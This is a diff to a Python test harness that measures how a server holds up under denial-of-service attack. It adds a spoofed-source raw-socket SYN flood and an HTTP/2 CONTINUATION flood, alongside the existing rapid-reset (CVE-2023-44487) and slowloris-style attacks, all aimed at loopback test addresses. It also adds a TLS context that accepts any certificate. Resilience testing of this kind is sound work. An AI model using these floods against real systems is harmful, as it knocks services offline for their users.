@@ -2,10 +2,16 @@
 
 Each part is a process of its own, so that none waits for another one's interpreter:
 
-    python -m harness.flood application 20 4      a server: 20 ms for a request, 4 at a time; it says its port
-    python -m harness.flood good PORT SECONDS     20 clients with 2 requests a second each; says how many were answered
-    python -m harness.flood KIND PORT SECONDS     an attack: requests, slow-heads, slow-bodies, slow-reads, resets;
-                                                  says how many whole requests it made, and how many were answered
+    python -m harness.flood application 20 4 [ADDRESS]     a server: 20 ms for a request, 4 at a time; it says its port
+    python -m harness.flood good PORT SECONDS              20 clients with 2 requests a second each; says how many were answered
+    python -m harness.flood steady PORT SCHEME             the same, until it is killed; says of each request when it began, and
+                                                           its status
+    python -m harness.flood KIND PORT SECONDS [EACH PACE]  an attack (see KINDS) by 200 addresses with so many connections each,
+                                                           and after one has ended, so many seconds until the next; says when it
+                                                           begins, and at the end how many whole requests it made, and how
+                                                           many were answered
+
+Attacks are limited in what they do, so that they show how others are defended, and not how much the processor can do.
 """
 
 from __future__ import annotations
@@ -13,6 +19,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import socket
 import ssl
 import struct
 import subprocess
@@ -22,11 +29,15 @@ from collections.abc import Callable, Coroutine
 from pathlib import Path
 from typing import Any
 
+from . import network
+
 HOST = "shop"
 GOOD = [f"127.2.{number}.7" for number in range(20)]
 BAD = [f"127.1.{number}.7" for number in range(200)]
 #: How long a client that behaves waits for an answer, in seconds.
 PATIENCE = 3.0
+#: Packets a second.
+SYN_RATE = 5000
 RATE = 2.0
 BODY = b"x" * 1000
 
@@ -42,7 +53,7 @@ def length(head: bytes) -> int:
 # The application
 
 
-async def application(milliseconds: float, workers: int) -> None:
+async def application(milliseconds: float, workers: int, address: str = "127.0.0.1") -> None:
     room = asyncio.Semaphore(workers)
 
     async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -61,7 +72,7 @@ async def application(milliseconds: float, workers: int) -> None:
         finally:
             writer.close()
 
-    server = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=1000)
+    server = await asyncio.start_server(serve, address, 0, backlog=1000)
     print(server.sockets[0].getsockname()[1], flush=True)
     await server.serve_forever()
 
@@ -69,12 +80,22 @@ async def application(milliseconds: float, workers: int) -> None:
 # Those who behave
 
 
-async def ask(port: int, address: str, data: bytes) -> int:
+def encrypted(*protocols: str) -> ssl.SSLContext:
+    """It takes any certificate."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(protocols)
+    return context
+
+
+async def ask(port: int, address: str, data: bytes, context: ssl.SSLContext | None = None) -> int:
     """Asks once, on a connection of its own, and returns the status; 0: there was none."""
     writer = None
     try:
         async with asyncio.timeout(PATIENCE):
-            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
+            name = HOST if context else None
+            place = asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0), ssl=context, server_hostname=name)
+            reader, writer = await place
             writer.write(data)
             head = await reader.readuntil(b"\r\n\r\n")
             await reader.readexactly(length(head))
@@ -111,13 +132,37 @@ async def good(port: int, seconds: float) -> None:
     print(json.dumps({"asked": len(tasks), "answered": results.get(200, 0), "results": results, "median": median}))
 
 
+async def steady(port: int, scheme: str) -> None:
+    """As many as before, for ever; each is told of when it is over."""
+    context = encrypted("http/1.1") if scheme == "https" else None
+
+    async def one(address: str) -> None:
+        since = time.monotonic()
+        status = await ask(port, address, request("/products"), context)
+        print(since, status, flush=True)
+
+    async def client(index: int) -> None:
+        at = time.monotonic() + index / len(GOOD) / RATE
+        asked: set[asyncio.Task[None]] = set()
+        while True:
+            await asyncio.sleep(max(0, at - time.monotonic()))
+            at += 1 / RATE
+            task = asyncio.create_task(one(GOOD[index]))
+            asked.add(task)
+            task.add_done_callback(asked.discard)
+
+    await asyncio.gather(*(client(index) for index in range(len(GOOD))))
+
+
 # Attacks
 
 #: Of all attackers together.
 told = {"asked": 0, "answered": 0}
 
 
-async def forever(addresses: list[str], seconds: float, once: Callable[[str], Coroutine[Any, Any, None]]) -> None:
+async def forever(
+    once: Callable[[str], Coroutine[Any, Any, None]], seconds: float, each: int = 1, pace: float | None = None
+) -> None:
     """Does something from each address, again and again."""
     end = time.monotonic() + seconds
 
@@ -127,10 +172,26 @@ async def forever(addresses: list[str], seconds: float, once: Callable[[str], Co
             try:
                 async with asyncio.timeout(max(0.01, end - time.monotonic())):
                     await once(address)
+                    await asyncio.sleep(pace or 0)
             except (OSError, TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
-                await asyncio.sleep(0.05)
+                await asyncio.sleep(min(pace or 0.05, max(0, end - time.monotonic())))
 
-    await asyncio.gather(*(loop(address, index / len(addresses)) for index, address in enumerate(addresses)))
+    await asyncio.gather(
+        *(loop(address, (pace or 1) * (index / len(BAD) + turn) / each) for index, address in enumerate(BAD) for turn in range(each))
+    )
+
+
+async def syn(port: int, seconds: float) -> None:
+    """Packets that ask for connections, from addresses that are nobody's. It has to be in a network of its own."""
+    begin = time.monotonic()
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        while (passed := time.monotonic() - begin) < seconds:
+            while told["asked"] < passed * SYN_RATE:
+                number = told["asked"]
+                source = f"198.{18 + (number >> 16) % 2}.{(number >> 8) % 256}.{number % 256}"
+                raw.sendto(network.syn(source, network.HERE, port, number), (network.HERE, 0))
+                told["asked"] += 1
+            await asyncio.sleep(0.01)
 
 
 async def requests(port: int, address: str) -> None:
@@ -191,21 +252,15 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-async def resets(port: int, address: str) -> None:
-    """Opens streams and resets each at once (CVE-2023-44487)."""
-    context = ssl.create_default_context()
-    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    context.set_alpn_protocols(["h2"])
+async def frames(port: int, address: str, of: Callable[[int], bytes]) -> None:
+    """Sends frames of HTTP/2, fifty times a second, until the other side has enough."""
     reader, writer = await asyncio.open_connection(
-        "127.0.0.1", port, local_addr=(address, 0), ssl=context, server_hostname=HOST
+        "127.0.0.1", port, local_addr=(address, 0), ssl=encrypted("h2"), server_hostname=HOST
     )
     try:
         writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(4, 1, 0, b""))
-        # :method GET, :scheme https, :path /, :authority
-        head = b"\x82\x87\x84\x41" + bytes([len(HOST)]) + HOST.encode()
         for turn in range(1000):
-            streams = range(1 + 40 * turn, 41 + 40 * turn, 2)
-            writer.write(b"".join(frame(1, 5, s, head) + frame(3, 0, s, b"\0\0\0\x08") for s in streams))
+            writer.write(of(turn))
             await writer.drain()
             if reader.at_eof():
                 return
@@ -214,19 +269,53 @@ async def resets(port: int, address: str) -> None:
         writer.close()
 
 
+# :method GET, :scheme https, :path /, :authority
+HEAD = b"\x82\x87\x84\x41" + bytes([len(HOST)]) + HOST.encode()
+
+
+async def resets(port: int, address: str) -> None:
+    """Opens streams and resets each at once (CVE-2023-44487)."""
+
+    def of(turn: int) -> bytes:
+        streams = range(1 + 40 * turn, 41 + 40 * turn, 2)
+        return b"".join(frame(1, 5, s, HEAD) + frame(3, 0, s, b"\0\0\0\x08") for s in streams)
+
+    await frames(port, address, of)
+
+
+async def continuations(port: int, address: str) -> None:
+    """A head that does not end (CVE-2024-27983 and others)."""
+
+    def of(turn: int) -> bytes:
+        # Literals that are not kept: a name of one letter, a value of a hundred.
+        piece = frame(9, 0, 1, (b"\x00\x01a\x64" + b"b" * 100) * 20)
+        return (frame(1, 1, 1, HEAD) if turn == 0 else b"") + piece * 2
+
+    await frames(port, address, of)
+
+
 KINDS = {
     "requests": requests, "slow-heads": slow_heads, "slow-bodies": slow_bodies, "slow-reads": slow_reads,
-    "resets": resets,
+    "resets": resets, "continuations": continuations,
 }  # fmt: skip
 
 
 # From tests
 
 
+#: `python -m harness.flood` without all else that the harness imports, which takes longer than some floods.
+ALONE = """
+import runpy, sys, types
+package = sys.modules["harness"] = types.ModuleType("harness")
+package.__path__ = ["harness"]
+runpy.run_module("harness.flood", run_name="__main__")
+"""
+
+
 def start(*arguments: object) -> subprocess.Popen[str]:
     """One of these programs."""
     return subprocess.Popen(
-        ["setpriv", "--pdeathsig", "KILL", sys.executable, "-m", "harness.flood", *map(str, arguments)],
+        ["setpriv", "--pdeathsig", "KILL", sys.executable, "-c", ALONE, *map(str, arguments)],
         stdout=subprocess.PIPE, text=True, cwd=Path(__file__).parents[1], env=os.environ,
     )  # fmt: skip
 
@@ -240,11 +329,19 @@ def goodput(port: int, seconds: float) -> dict[str, Any]:
 
 if __name__ == "__main__":
     match sys.argv[1:]:
-        case ["application", milliseconds, workers]:
-            asyncio.run(application(float(milliseconds), int(workers)))
+        case ["application", milliseconds, workers, *address]:
+            asyncio.run(application(float(milliseconds), int(workers), *address))
         case ["good", port, seconds]:
             asyncio.run(good(int(port), float(seconds)))
-        case [kind, port, seconds]:
+        case ["steady", port, scheme]:
+            asyncio.run(steady(int(port), scheme))
+        case ["syn", port, seconds, *_]:
+            print(time.monotonic(), flush=True)
+            asyncio.run(syn(int(port), float(seconds)))
+            print(json.dumps(told))
+        case [kind, port, seconds, *more]:
             attack = KINDS[kind]
-            asyncio.run(forever(BAD, float(seconds), lambda address: attack(int(port), address)))
+            each, pace = (int(more[0]), float(more[1])) if more else (1, None)
+            print(time.monotonic(), flush=True)
+            asyncio.run(forever(lambda address: attack(int(port), address), float(seconds), each, pace))
             print(json.dumps(told))
